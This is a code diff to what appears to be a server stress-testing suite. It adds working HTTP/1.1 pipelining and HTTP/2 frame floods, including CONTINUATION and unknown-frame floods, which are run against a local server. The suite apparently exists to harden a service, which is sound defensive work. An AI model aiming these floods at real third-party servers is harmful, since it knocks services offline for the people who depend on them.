@@ -195,6 +195,17 @@ const webSockets: Attack = async ({ port }, untilMs) => {
   return outcomes;
 };
 
+const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
+/** A frame of RFC 9113 section 4.1. */
+function frameOf(type: number, flags: number, stream: number, payload: Buffer): Buffer {
+  const header = Buffer.alloc(9);
+  header.writeUIntBE(payload.length, 0, 3);
+  header.writeUInt8(type, 3);
+  header.writeUInt8(flags, 4);
+  header.writeUInt32BE(stream, 5);
+  return Buffer.concat([header, payload]);
+}
+
 /** HTTP/2: streams that are opened and reset, pings, endless headers. */
 const http2Floods: Attack = async ({ url, port }, untilMs) => {
   const outcomes: Outcomes = {};
@@ -227,19 +238,10 @@ const http2Floods: Attack = async ({ url, port }, untilMs) => {
     await sleep(10);
   });
   // RFC 9113 6.10: HEADERS without END_HEADERS, followed by endless CONTINUATION frames.
-  const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
-  const frameOf = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
-    const header = Buffer.alloc(9);
-    header.writeUIntBE(payload.length, 0, 3);
-    header.writeUInt8(type, 3);
-    header.writeUInt8(flags, 4);
-    header.writeUInt32BE(stream, 5);
-    return Buffer.concat([header, payload]);
-  };
   const field = Buffer.concat([Buffer.from([0x00, 0x01, 0x61, 0x7f, 0x00]), Buffer.alloc(127, 'a')]);
   const more = frameOf(9, 0, 1, Buffer.concat(Array.from({ length: 100 }, () => field)));
   const endless = withSockets(port, 50, untilMs, outcomes, (socket) => {
-    socket.write(preface);
+    socket.write(PREFACE);
     socket.write(frameOf(4, 0, 0, Buffer.alloc(0)));
     socket.write(frameOf(1, 0, 1, Buffer.from([0x83, 0x86, 0x84])));
     const timer = setInterval(() => {
@@ -248,6 +250,50 @@ const http2Floods: Attack = async ({ url, port }, untilMs) => {
     socket.on('close', () => clearInterval(timer));
   });
   await Promise.all([resets, pings, endless]);
+  return outcomes;
+};
+
+/** HTTP/1.1: as many requests as a connection takes, without a look at the answers. */
+const pipelinedRequests: Attack = async ({ port }, untilMs) => {
+  const outcomes: Outcomes = {};
+  const many = Buffer.from('GET /info HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(500));
+  await withSockets(port, 8, untilMs, outcomes, (socket) => {
+    socket.resume();
+    const timer = setInterval(() => {
+      for (let i = 0; i < 8 && socket.writableLength < 1 << 18; i++) socket.write(many);
+    }, 5);
+    socket.on('close', () => clearInterval(timer));
+  });
+  return outcomes;
+};
+
+/** HTTP/2 without a client that keeps its rules: streams one after the other, unknown frames, updates of windows. */
+const http2Frames: Attack = async ({ port }, untilMs) => {
+  const outcomes: Outcomes = {};
+  const opening = Buffer.concat([
+    Buffer.from([0x83, 0x86, 0x04, 13]),
+    Buffer.from('/query-stream'),
+    Buffer.from([0x01, 9]),
+    Buffer.from('localhost'),
+  ]);
+  const kinds: readonly ((n: number) => Buffer)[] = [
+    (n) => frameOf(1, 4, 2 * n + 1, opening),
+    (n) => Buffer.concat([frameOf(1, 4, 2 * n + 1, opening), frameOf(3, 0, 2 * n + 1, Buffer.from([0, 0, 0, 8]))]),
+    () => frameOf(0x77, 0, 0, Buffer.from('x')),
+    () => frameOf(8, 0, 0, Buffer.from([0, 0, 0, 1])),
+  ];
+  let next = 0;
+  await repeated(untilMs, 8, async () => {
+    const frame = kinds[next++ % kinds.length]!;
+    const sockets = new Set<Socket>();
+    const socket = open(port, sockets, outcomes);
+    socket.resume();
+    socket.write(Buffer.concat([PREFACE, frameOf(4, 0, 0, Buffer.alloc(0))]));
+    for (let n = 0; !isOver(untilMs) && sockets.has(socket); await sleep(5))
+      for (let i = 0; i < 8 && socket.writableLength < 1 << 18; i++)
+        socket.write(Buffer.concat(Array.from({ length: 500 }, () => frame(n++))));
+    socket.destroy();
+  });
   return outcomes;
 };
 
@@ -337,6 +383,8 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   'compressed bombs': compressedBombs,
   'WebSocket floods': webSockets,
   'HTTP/2 floods': http2Floods,
+  'HTTP/2 frames without end': http2Frames,
+  'pipelined requests': pipelinedRequests,
   'push queries that nobody reads': slowReaders,
   'many queries': manyQueries,
   'whatever bytes': noise,
